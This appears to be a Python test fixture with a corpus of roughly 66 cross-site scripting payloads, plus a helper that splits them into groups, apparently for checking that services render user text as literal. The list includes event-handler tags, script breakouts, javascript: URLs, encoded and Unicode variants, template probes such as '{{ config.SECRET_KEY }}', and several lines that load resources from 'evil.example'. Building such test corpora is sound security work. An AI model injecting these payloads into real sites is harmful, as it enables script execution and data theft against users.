"""Our own corpus of XSS payloads: each would run `alert(n)` (or load something) if it reached the page as HTML.

Every payload is at most 60 characters (the shortest text column that holds one is a display name) and has no
leading or trailing space (services strip text).
"""

PAYLOADS = [
    # Tags with event handlers.
    '<img src=x onerror="alert(1004)">',
    "<img src=x onerror=alert(2)>",
    '<img src="x" onerror="alert(3)">',
    "<svg onload=alert(4)>",
    "<svg/onload=alert(5)>",
    "<body onload=alert(6)>",
    "<details open ontoggle=alert(7)>",
    "<input autofocus onfocus=alert(8)>",
    "<video><source onerror=alert(9)>",
    "<audio src=x onerror=alert(10)>",
    "<marquee onstart=alert(11)>x</marquee>",
    "<select autofocus onfocus=alert(12)>",
    "<textarea autofocus onfocus=alert(13)>",
    "<keygen autofocus onfocus=alert(14)>",
    "<svg><animate onbegin=alert(15) attributeName=x dur=1s>",
    "<a href=# onclick=alert(16)>click me</a>",
    "<span onmouseover=alert(17)>hover me</span>",
    "<div onpointerenter=alert(18)>pointer</div>",
    "<x onclick=alert(19)>click",
    "<img src=x:alert(alt) onerror=eval(src) alt=20>",
    # Script elements and breaking out of the surrounding markup.
    "<script>alert(21)</script>",
    "</script><script>alert(22)</script>",
    "</textarea><script>alert(23)</script>",
    "</title><script>alert(24)</script>",
    '"><script>alert(25)</script>',
    "'><img src=x onerror=alert(26)>",
    '"><svg onload=alert(27)>',
    "<svg><script>alert(28)</script></svg>",
    "<math><mtext><img src=x onerror=alert(29)>",
    '<noscript><p title="</noscript><svg onload=alert(30)>">',
    "<<script>alert(31);//<</script>",
    "<scr<script>ipt>alert(32)</scr</script>ipt>",
    # Broken and odd attributes.
    '" onmouseover="alert(33)',
    "' onfocus='alert(34)' autofocus='",
    "<img src=x onerror=alert(35)//",
    "<img/src=x/onerror=alert(36)>",
    "<img src=x oNeRrOr=alert(37)>",
    "<IMG SRC=x ONERROR=alert(38)>",
    '<img src=x onerror="&#97;lert(39)">',
    "<img src=x onerror=alert`40`>",
    '"-alert(41)-"',
    "'-alert(42)-'",
    '\\";alert(43);//',
    # javascript: and other URLs.
    "javascript:alert(44)",
    '<a href="javascript:alert(45)">link</a>',
    '<iframe src="javascript:alert(46)">',
    '<object data="javascript:alert(47)">',
    '<embed src="javascript:alert(48)">',
    '<svg><a xlink:href="javascript:alert(49)"><text>x</text></a>',
    "<form action=javascript:alert(50)><button>go",
    "<button formaction=javascript:alert(51)>go",
    "<meta http-equiv=refresh content=0;url=/x52>",
    '<base href="//evil.example/">',
    "<link rel=stylesheet href=//evil.example/53.css>",
    "<style>@import'//evil.example/54.css'</style>",
    '<div style="background:url(//evil.example/55)">',
    # Template syntax of several engines (must stay literal text).
    "{{7*7}}",
    "${7*7}",
    "{{ config.SECRET_KEY }}",
    "<%= 7*7 %>",
    "{% raw %}{{ 57 }}{% endraw %}",
    # Entity- and percent-encoded forms (must stay literal text, never be decoded into markup).
    "&lt;img src=x onerror=alert(58)&gt;",
    "&#60;script&#62;alert(59)&#60;/script&#62;",
    "%3Cscript%3Ealert(60)%3C/script%3E",
    "\\u003cimg src=x onerror=alert(61)\\u003e",
    # Unicode tricks.
    "\uff1cscript\uff1ealert(62)\uff1c/script\uff1e",
    "\u202e<img src=x onerror=alert(63)>",
    "\ufeff<svg onload=alert(64)>",
    "주민<img src=x onerror=alert(65)>의견",
    "<img src=x onerror=alert(66)>\u200b",
]

assert len(PAYLOADS) >= 50 and len(set(PAYLOADS)) == len(PAYLOADS)
assert all(len(p) <= 60 and p == p.strip() for p in PAYLOADS)


def chunks(size: int, limit: int = 0) -> list[list[str]]:
    """The corpus cut into consecutive groups of `size` payloads, or (with `limit`) groups of at most `limit` characters
    when joined by a space."""
    if not limit:
        return [PAYLOADS[i:i + size] for i in range(0, len(PAYLOADS), size)]
    groups, current = [], []
    for payload in PAYLOADS:
        if current and len(" ".join(current + [payload])) > limit:
            groups.append(current)
            current = []
        current.append(payload)
    groups.append(current)
    return groups
